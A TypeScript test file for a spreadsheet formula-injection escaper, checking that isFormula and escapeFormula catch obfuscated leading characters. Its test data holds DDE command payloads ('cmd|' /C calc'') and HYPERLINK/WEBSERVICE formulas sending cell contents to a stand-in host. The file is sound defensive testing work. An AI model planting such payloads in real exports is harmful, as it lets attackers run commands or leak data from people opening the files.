import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { escapeFormula, isFormula } from './formula.ts';

describe('is a formula', () => {
  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '+1+1',
    '+1',
    "+cmd|' /C calc'!A0",
    '-1+1',
    "-2+3+cmd|' /C calc'!A0",
    '-1.5.2',
    '-1e5',
    '-',
    '--1',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '@',
    // Some programs cut the first character and go on with the rest.
    '\t=1+1',
    '\tharmless',
    '\r=1+1',
    '\rharmless',
    '\n=1+1',
    '\nharmless',
    '\r\n=1+1',
    // Behind what is not seen or is taken away.
    ' =1+1',
    '   @A1',
    '\u00A0=1+1',
    '\u3000=1+1',
    '\u2028=1+1',
    '\u200B=1+1',
    '\u200E=1+1',
    '\u202E=1+1',
    '\u00AD=1+1',
    '\uFEFF=1+1',
    '\u0000=1+1',
    '\u001B=1+1',
    '\u0085=1+1',
    '"=1+1"',
    '""=1+1',
    "'=1+1",
    '`=1+1',
    '“=1+1”',
    '‘=1+1’',
    '«=1+1»',
    '＂=1+1',
    ' " \t=1+1',
    "'\t",
    // Other forms of the same characters.
    '\uFF1D1+1',
    '\uFF0B1+1',
    '\uFF0D1+1',
    '\uFF20A1',
    '\uFE66' + '1+1',
    '\uFE62' + '1',
    '\uFE63' + '1',
    '\uFE6B' + 'A1',
    '\u207C1',
    '\u208C1',
    '\u207A1',
    '\u207B1',
    '\u22121+1',
    ' \uFF1D1+1',
    '"\uFF0B1',
    // Not plain decimals, so a program may compute them.
    '-1,5',
    '-.5',
    '-1.',
    '-1 000',
    '-١٢',
  ])('%j', (text) => {
    expect(isFormula(text)).toBe(true);
    expect(escapeFormula(text)).toBe(`'${text}`);
  });
});

describe('is none, and stays as it is', () => {
  it.each([
    '',
    '0',
    '-1',
    '-1.5',
    '-0.00000490',
    '1.50',
    '123456789012345678901234567890.000000000000000000000000000001',
    `-${'9'.repeat(60)}`,
    'BTC-USDT',
    '币安人生-USDT',
    'buy-limit',
    'a=1',
    '1+1',
    '2025-03-02T14:05:09.000-05:00',
    'isolated:1001',
    '{"profit":"=1+1"}',
    'unknown:=1',
    '"quoted"',
    "'",
    '   ',
    '–',
    '#NAME?',
    '(1)',
    '😀',
  ])('%j', (text) => {
    expect(isFormula(text)).toBe(false);
    expect(escapeFormula(text)).toBe(text);
  });
});

const ingredients = [...'=+-@\t\r\n "\'`“’＝－＠\u2212\u200B\u0000aZ0.5,;|(){}'];
const hostileText = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: fc.constantFrom(...ingredients), maxLength: 12 }),
);

describe('of any text', () => {
  it('what is left can be read back', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const defused = escapeFormula(text);
        const readBack = defused.startsWith("'") && isFormula(defused.slice(1)) ? defused.slice(1) : defused;
        expect(readBack).toBe(text);
      }),
      { numRuns: 2000 },
    );
  });

  it('no dangerous character comes first, but in a plain decimal', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const defused = escapeFormula(text);
        if (/^-\d+(\.\d+)?$/.test(defused)) return;
        expect(defused.trimStart().normalize('NFKC')).not.toMatch(/^[=+\-@]/);
        expect(defused).not.toMatch(/^[\t\r\n]/);
      }),
      { numRuns: 2000 },
    );
  });
});
